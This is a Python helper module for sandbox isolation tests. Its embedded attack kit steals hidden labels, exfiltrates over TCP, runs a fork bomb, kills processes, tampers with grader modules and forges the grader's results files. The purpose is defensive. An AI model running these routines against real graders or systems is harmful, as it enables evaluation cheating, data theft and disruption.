"""Helpers for tests/test_isolation.py: the attack kit that hostile notebooks run in the kernel,
and the host-side tools that check what leaked (files, processes, connections).

The kit is one code cell defining attack functions; a test's next cell calls the ones it needs.
Every attack is wrapped in try/except and reports what happened on one line of output,
`ISOLATION {"tag": ..., ...}`, which the test reads back from the executed notebook, so a failure
says what the notebook could do.

Safety. The kit must never hurt the machine, even on a backend that does not isolate (the tests
are also run on the unisolated backend, to prove they fail there). So the two attacks with a
machine-wide reach narrow themselves when the kernel shares a namespace with the test process
(the test passes its namespace ids in): signalling and writing to other processes' descriptors
then touch only this sandbox's own processes (those with the kernel's HOME, and its ancestors
below the test process), and the search for observations files stays inside the sandbox folder.
In a namespace of its own the kernel attacks everything it can see, pid 1 and its parents
included. The fork bomb is bounded (2**depth processes at most, each gone after a few seconds),
writes into the host's Python environment and grader package only create new, inert files (the
test removes them), and nothing secret that the kernel may read is ever printed (only sizes and
hashes).
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
import time
import uuid
from pathlib import Path

import psutil

REPORT_PREFIX = "ISOLATION "

KIT = r'''
import hashlib, json, os, pathlib, signal, socket, sqlite3, subprocess, sys, time

CTX = json.loads(__CTX__)


def say(tag, **data):
    print("ISOLATION " + json.dumps({"tag": tag, **data}, default=str), flush=True)


def _ns(kind):
    try:
        return os.readlink(f"/proc/self/ns/{kind}")
    except OSError:
        return None


# Name this kernel so that the test finds it on the host if it ever outlives its sandbox.
try:
    with open("/proc/self/comm", "w") as _comm:
        _comm.write(CTX["comm"])
except OSError:
    pass

SHARED_PID = _ns("pid") in (None, CTX["host_ns"]["pid"])
SHARED_MNT = _ns("mnt") in (None, CTX["host_ns"]["mnt"])
SHARED_NET = _ns("net") in (None, CTX["host_ns"]["net"])
HOME = os.environ.get("HOME", "")
# The sandbox's own folder (HOME is its home/ beside work/): the only place the search for
# observations files may write when the kernel shares the host's filesystem. Never the host's
# home, /, /tmp or anything that shallow: then only the working folder.
SANDBOX_ROOT = os.path.commonpath([HOME or os.getcwd(), os.getcwd()])
if SANDBOX_ROOT.count(os.sep) < 2 or SANDBOX_ROOT in (CTX["host_home"], os.path.dirname(CTX["host_home"])):
    SANDBOX_ROOT = os.getcwd()
OWN_HOME = bool(HOME) and HOME != CTX["host_home"] and HOME.startswith(SANDBOX_ROOT)
TRUSTED = ("grader.harness", "grader.sandbox.supervise", "entry.sh")


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError:
        return ""


def environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            return handle.read().split(b"\0")
    except OSError:
        return []


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def visible_pids():
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def trusted(pid):
    line = cmdline(pid)
    return any(mark in line for mark in TRUSTED)


def ancestors():
    chain, pid = [], parent_of(os.getpid())
    while pid > 0 and pid not in chain:
        chain.append(pid)
        pid = parent_of(pid)
    return chain


def targets(only_ancestors=False):
    """Every process this kernel can see but itself (pid 1 and its parents included), or only its
    ancestors. Sharing the host's process table (an unisolated backend), only this sandbox's own
    processes: those with its HOME and its ancestors below the test process."""
    me = os.getpid()
    seen = [pid for pid in visible_pids() if pid != me]
    chain = ancestors()
    if not SHARED_PID and len(seen) < 200:
        return chain if only_ancestors else seen
    home = ("HOME=" + HOME).encode()
    ours = lambda pid: OWN_HOME and home in environ(pid)
    keep = []
    for pid in chain:  # up to the test process, and only through the grader's own processes
        if pid in (1, CTX["host_pid"]) or "pytest" in cmdline(pid) or not ("grader" in cmdline(pid) or ours(pid)):
            break
        keep.append(pid)
    if not only_ancestors:
        keep += [pid for pid in seen if ours(pid) and pid not in keep]
    return keep


say("kit", pid=os.getpid(), uid=os.getuid(), cwd=os.getcwd(), home=HOME, shared_pid=SHARED_PID,
    shared_mnt=SHARED_MNT, shared_net=SHARED_NET, visible=len(visible_pids()))


def _digest(data):
    return hashlib.sha256(data).hexdigest()


# --- (1) the thief -------------------------------------------------------------------------------

LOOKUP = {}


def steal(roots, seconds=4.0):
    """Walk the grading user's home and the dataset caches for hidden splits, seeds and YAML
    (rubrics); load every .npz with inputs and labels into a lookup table for predict()."""
    import numpy as np

    prefixes = tuple(os.path.realpath(p) + os.sep for p in {sys.prefix, sys.base_prefix, sys.exec_prefix})
    found, deadline = [], time.monotonic() + seconds
    for root in roots:
        for folder, dirs, files in os.walk(root, onerror=lambda exc: say("steal-refused", error=str(exc))):
            if time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if not d.startswith(".")
                       and not os.path.realpath(os.path.join(folder, d)).startswith(prefixes)]
            for name in files:
                path = os.path.join(folder, name)
                if not (name in ("hidden.npz", "seed") or name.endswith((".npz", ".yaml", ".yml"))):
                    continue
                found.append(path)
                if name.endswith(".npz"):
                    try:
                        if os.path.getsize(path) > 8 * 1024**2:
                            continue
                        arrays = np.load(path)
                        pairs = [("x", "y")] + [(k, "y" + k[1:]) for k in arrays.files if k.startswith("x_")]
                        for xs, ys in pairs:
                            if xs in arrays.files and ys in arrays.files:
                                for row, label in zip(np.asarray(arrays[xs], dtype=np.float64), arrays[ys]):
                                    LOOKUP[row.tobytes()] = label
                    except Exception as exc:
                        say("steal-error", path=path, error=repr(exc))
    found = sorted(set(found))
    say("steal", found=found[:50], count=len(found), rows=len(LOOKUP))
    return found


def looked_up(inputs, honest):
    """honest predictions, replaced by the stolen label wherever an input row was found."""
    import numpy as np

    out = np.array(honest, copy=True)
    hits = 0
    for i, row in enumerate(np.asarray(inputs, dtype=np.float64)):
        label = LOOKUP.get(row.tobytes())
        if label is not None:
            out[i], hits = label, hits + 1
    if hits:
        say("lookup", hits=hits, of=len(out))
    return out


# --- (2), (7) reading what is not the notebook's ---------------------------------------------------

def read_paths(paths, folders=(), databases=()):
    read, listed, refused = [], [], []
    for path in paths:
        try:
            with open(path, "rb") as handle:
                data = handle.read()
            read.append({"path": path, "bytes": len(data), "sha256": _digest(data)})
        except OSError as exc:
            refused.append(f"{path}: {exc.strerror or exc}")
    for folder in folders:
        try:
            listed.append({"path": folder, "names": sorted(os.listdir(folder))[:20]})
        except OSError as exc:
            refused.append(f"{folder}: {exc.strerror or exc}")
    for database in databases:
        try:
            connection = sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=1)
            tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
            connection.close()
            read.append({"path": database, "tables": tables})
        except sqlite3.Error as exc:
            refused.append(f"{database}: {exc}")
    say("read", read=read, listed=listed, refused=refused[:30])


# --- (3) writing what is not the notebook's --------------------------------------------------------

def write_paths(files=(), folders=(), databases=(), tag="write"):
    written, refused = [], []
    for path in files:
        try:
            with open(path, "ab") as handle:
                handle.write(b"\n# rewritten by a notebook\n")
            written.append(f"appended {path}")
        except OSError as exc:
            refused.append(f"{path}: {exc.strerror or exc}")
        try:
            os.utime(path, (0, 0))
            written.append(f"touched {path}")
        except OSError as exc:
            refused.append(f"utime {path}: {exc.strerror or exc}")
    for folder in folders:
        target = os.path.join(folder, f"PWNED-{CTX['marker']}")
        try:
            with open(target, "x") as handle:
                handle.write("a notebook wrote this")
            written.append(f"created {target}")
        except OSError as exc:
            refused.append(f"{target}: {exc.strerror or exc}")
    for database in databases:
        try:
            connection = sqlite3.connect(f"file:{database}?mode=rw", uri=True, timeout=1)
            connection.execute("CREATE TABLE pwned (note TEXT)")
            connection.execute("UPDATE results SET score = 0")
            connection.commit()
            connection.close()
            written.append(f"rewrote {database}")
        except sqlite3.Error as exc:
            refused.append(f"{database}: {exc}")
    say(tag, written=written, refused=refused[:30])


# --- (4) the network --------------------------------------------------------------------------------

def connect(hosts, port):
    connected, refused = [], []
    for host in hosts:
        try:
            with socket.create_connection((host, port), timeout=2) as connection:
                connection.sendall(b"stolen answers")
            connected.append(host)
        except OSError as exc:
            refused.append(f"{host}: {exc.strerror or exc}")
    say("connect", connected=connected, refused=refused)


# --- (5) a process that outlives the kernel ---------------------------------------------------------

SLEEPER = ("import os, sys\nos.setsid()\nif os.fork():\n    os._exit(0)\n"
           "os.execv(sys.argv[2], [sys.argv[1], '300'])")


def escape(kill_ancestors=False):
    sleep = next((p for p in ("/bin/sleep", "/usr/bin/sleep") if os.path.exists(p)), "sleep")
    try:
        subprocess.run([sys.executable, "-c", SLEEPER, CTX["marker"] + "-sleeper", sleep], timeout=20)
    except Exception as exc:
        say("escape-error", error=repr(exc))
    time.sleep(0.5)
    running = [pid for pid in visible_pids() if CTX["marker"] in cmdline(pid)]
    chain = targets(only_ancestors=True) if kill_ancestors else []
    say("escape", sleepers=running, killing=[f"{pid} {cmdline(pid)[:80]}" for pid in chain])
    for pid in chain:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(1)


# --- (6) a fork bomb, bounded ------------------------------------------------------------------------

BOMB = r"""
import os, sys, time
depth, log, until = int(sys.argv[2]), sys.argv[3], time.time() + float(sys.argv[4])

def note(mark):
    try:
        fd = os.open(log, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        os.write(fd, mark)
        os.close(fd)
    except OSError:
        pass

for _ in range(depth):
    try:
        child = os.fork()
    except OSError:
        note(b"F")
        continue
    if child == 0:
        note(b"S")
time.sleep(max(0.0, until - time.time()))
"""


def bomb(depth, seconds):
    """At most 2**depth - 1 new processes, each gone `seconds` after the bomb started."""
    log = os.path.abspath("bomb.log")
    started = time.monotonic()
    try:
        top = subprocess.Popen([sys.executable, "-S", "-c", BOMB, CTX["marker"] + "-bomb", str(depth), log, str(seconds)])
        top.wait(timeout=seconds + 30)
    except Exception as exc:
        say("bomb-error", error=repr(exc))
    time.sleep(1)
    try:
        with open(log, "rb") as handle:
            marks = handle.read()
    except OSError:
        marks = b""
    say("bomb", created=marks.count(b"S"), refused=marks.count(b"F"), seconds=round(time.monotonic() - started, 2))


# --- (8) forging the observations, and the harness ---------------------------------------------------

def forge_targets(extra=()):
    """Where the harness might write its observations: beside every parent of cwd, the docker
    result folder, and anything named observations.json the kernel can find (inside its own
    sandbox folder only, when it shares the host's filesystem)."""
    found = set(extra)
    here = os.path.abspath(os.getcwd())
    for parent in [here, *map(str, pathlib.Path(here).parents)]:
        found.update([os.path.join(parent, "out", "observations.json"), os.path.join(parent, "observations.json")])
    found.update(["/result/observations.json", "/sandbox/out/observations.json", "/out/observations.json"])
    roots = [SANDBOX_ROOT] if SHARED_MNT else [SANDBOX_ROOT, "/result", "/sandbox", "/tmp", "/"]
    deadline = time.monotonic() + 3
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
            if "observations.json" in files:
                found.add(os.path.join(folder, "observations.json"))
    if SHARED_MNT:
        found = {p for p in found if p in extra or os.path.abspath(p).startswith(SANDBOX_ROOT + os.sep)}
    return sorted(found)


def forge(document, extra=()):
    written, refused = [], []
    for path in forge_targets(extra):
        try:
            with open(path, "w") as handle:
                handle.write(document)
            written.append(path)
            continue
        except OSError as exc:
            first = exc.strerror or str(exc)
        try:  # a read-only file in a writable folder: replace it
            tmp = f"{path}.{CTX['marker']}"
            with open(tmp, "w") as handle:
                handle.write(document)
            os.replace(tmp, path)
            written.append(path + " (replaced)")
        except OSError:
            refused.append(f"{path}: {first}")
    say("forge", written=written, refused=refused[:30])
    return written


def kill_everything():
    chosen = targets()
    say("kill", targets=[f"{pid} {cmdline(pid)[:80]}" for pid in chosen], trusted=[pid for pid in chosen if trusted(pid)])
    killed, refused = [], []
    for pid in chosen:
        was_trusted, line = trusted(pid), cmdline(pid)[:80]
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append({"pid": pid, "cmdline": line, "trusted": was_trusted})
        except OSError as exc:
            refused.append(f"{pid}: {exc.strerror}")
    time.sleep(1)
    say("killed", killed=killed, refused=refused[:30])


REWRITER = r"""
import json, os, sys, time
paths, document = json.loads(sys.argv[2]), sys.argv[3]
until = time.time() + 90
while time.time() < until:
    for path in paths:
        try:
            tmp = path + ".forging"
            with open(tmp, "w") as handle:
                handle.write(document)
            os.replace(tmp, path)
        except OSError:
            pass
    time.sleep(0.005)
"""


def keep_forging(document, extra=()):
    """A detached process that rewrites the forged observations every 5 ms for 90 s, to win the
    race after the harness has written its own."""
    paths = [p for p in forge_targets(extra) if os.path.isdir(os.path.dirname(p))]
    try:
        subprocess.Popen([sys.executable, "-c", REWRITER, CTX["marker"] + "-forger", json.dumps(paths), document],
                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        say("keep-forging", paths=paths[:30])
    except Exception as exc:
        say("keep-forging-error", error=repr(exc))


def replace_modules(extra_dirs=()):
    """Write into the grader's harness package (and the Python environment's site-packages): a
    new module beside the harness's, each harness module opened for writing (not changed), an
    inert .pth file. Any success means the next grade could run the student's code as the grader."""
    import site, sysconfig

    dirs = set(extra_dirs)
    try:
        import grader.harness
        dirs.add(os.path.dirname(os.path.abspath(grader.harness.__file__)))
    except Exception as exc:
        say("modules-import-error", error=repr(exc))
    written, refused = [], []
    for folder in sorted(dirs):
        new = os.path.join(folder, f"isolation_{CTX['marker']}.py")
        try:
            with open(new, "x") as handle:
                handle.write("raise SystemExit('the harness was replaced by a notebook')\n")
            written.append(f"created {new}")
        except OSError as exc:
            refused.append(f"{new}: {exc.strerror or exc}")
        try:
            names = sorted(os.listdir(folder))
        except OSError:
            names = []
        for name in names:
            if name.endswith(".py") and not name.startswith("isolation_"):
                path = os.path.join(folder, name)
                try:
                    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                    written.append(f"opened for writing {path}")
                except OSError as exc:
                    refused.append(f"{path}: {exc.strerror or exc}")
    sites = {sysconfig.get_paths()["purelib"], *getattr(site, "getsitepackages", lambda: [])()}
    for folder in sorted(sites):
        pth = os.path.join(folder, f"isolation_{CTX['marker']}.pth")
        try:
            with open(pth, "x") as handle:
                handle.write("# written by a notebook under test; inert\n")
            written.append(f"created {pth}")
        except OSError as exc:
            refused.append(f"{pth}: {exc.strerror or exc}")
    say("modules", dirs=sorted(dirs), written=written, refused=refused[:30])


def write_descriptors(document):
    """Write the forged observations into every descriptor of every other process it can open
    through /proc/<pid>/fd, and try to open those processes' memory (ptrace access)."""
    data = document.encode()
    wrote, trusted_wrote, trusted_memory = 0, [], []
    for pid in targets():
        is_trusted, line = trusted(pid), cmdline(pid)[:80]
        try:
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
            if is_trusted:
                trusted_memory.append(f"{pid} {line}")
        except OSError:
            pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            link = f"/proc/{pid}/fd/{fd}"
            try:
                where = os.readlink(link)
            except OSError:
                where = "?"
            try:
                handle = os.open(link, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(handle, data[:65536])
                wrote += 1
                if is_trusted:
                    trusted_wrote.append(f"{pid} {line} fd {fd} -> {where}")
            except OSError:
                pass
            finally:
                os.close(handle)
    say("descriptors", wrote=wrote, trusted_wrote=trusted_wrote[:30], trusted_memory=trusted_memory)
'''


def kit_cell(context: dict) -> str:
    """The kit as a code cell, with the test's context (paths, markers, namespace ids) inlined."""
    return KIT.replace("__CTX__", repr(json.dumps(context)), 1)


def call(function: str, *args: object, **kwargs: object) -> str:
    """A cell calling one kit function with literal arguments."""
    parts = [repr(a) for a in args] + [f"{k}={v!r}" for k, v in kwargs.items()]
    return f"{function}({', '.join(parts)})"


def host_namespaces() -> dict[str, str | None]:
    found = {}
    for kind in ("pid", "mnt", "net"):
        try:
            found[kind] = os.readlink(f"/proc/self/ns/{kind}")
        except OSError:
            found[kind] = None
    return found


def new_marker() -> tuple[str, str]:
    """(a marker for command lines, a 15-character-safe name for the kernel's comm)."""
    token = uuid.uuid4().hex[:10]
    return f"isolation-{token}", f"iso{token}"


def reports(out: Path) -> dict[str, dict]:
    """The kit's reports from the executed notebook, by tag (the last of each); {} if none."""
    executed = out / "executed.ipynb"
    found: dict[str, dict] = {}
    if not executed.is_file():
        return found
    try:
        cells = json.loads(executed.read_text(encoding="utf-8"))["cells"]
    except (ValueError, KeyError):
        return found
    for cell in cells:
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            for line in ("".join(text) if isinstance(text, list) else text).splitlines():
                if line.startswith(REPORT_PREFIX):
                    try:
                        report = json.loads(line[len(REPORT_PREFIX):])
                    except ValueError:
                        continue
                    found[report.get("tag", "?")] = report
    return found


def fingerprint(root: Path) -> dict[str, tuple]:
    """Every file under root (or root itself): relative path -> (sha256, mode, mtime_ns, inode)."""
    root = Path(root)
    paths = [root] if root.is_file() else sorted(p for p in root.rglob("*"))
    seen = {}
    for path in paths:
        stat = path.lstat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else "dir"
        seen[str(path.relative_to(root)) if path != root else "."] = (digest, stat.st_mode, stat.st_mtime_ns, stat.st_ino)
    return seen


def marked_processes(*markers: str) -> list[psutil.Process]:
    """Processes on this machine whose command line or name carries one of the markers."""
    found = []
    for process in psutil.process_iter(["pid", "name", "cmdline"]):
        try:
            line = " ".join(process.info["cmdline"] or [])
            name = process.info["name"] or ""
            try:
                with open(f"/proc/{process.pid}/comm") as handle:
                    name += " " + handle.read().strip()
            except OSError:
                pass
        except (psutil.Error, OSError):
            continue
        if any(marker and (marker in line or marker in name) for marker in markers):
            found.append(process)
    return found


def wait_until_gone(*markers: str, seconds: float = 10.0) -> list[str]:
    """Wait up to `seconds` for every marked process to end; the descriptions of those left."""
    deadline = time.monotonic() + seconds
    while True:
        left = marked_processes(*markers)
        if not left or time.monotonic() > deadline:
            break
        time.sleep(0.25)
    described = []
    for process in left:
        try:
            described.append(f"{process.pid} {' '.join(process.cmdline())[:100]} (name {process.name()})")
        except psutil.Error:
            pass
    return described


def kill_marked(*markers: str) -> None:
    """Kill every marked process (the cleanup after a test, whatever the backend did)."""
    for _ in range(5):
        left = marked_processes(*markers)
        if not left:
            return
        for process in left:
            try:
                process.kill()
            except psutil.Error:
                pass
        psutil.wait_procs(left, timeout=2)


class PeakCounter:
    """Samples, in a thread, how many processes on this machine carry a marker; keeps the peak."""

    def __init__(self, marker: str, every: float = 0.1) -> None:
        self.marker, self.every, self.peak = marker, every, 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._stop.is_set():
            count = 0
            for pid in psutil.pids():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as handle:
                        count += self.marker.encode() in handle.read()
                except OSError:
                    pass
            self.peak = max(self.peak, count)
            self._stop.wait(self.every)

    def stop(self) -> int:
        self._stop.set()
        self._thread.join()
        return self.peak


class Listener:
    """A TCP server on every IPv4 address of this machine, recording connections and bytes."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted: list[str] = []
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, address = self.server.accept()
            except OSError:
                continue
            self.accepted.append(f"{address[0]}:{address[1]}")
            connection.settimeout(1)
            try:
                while chunk := connection.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()
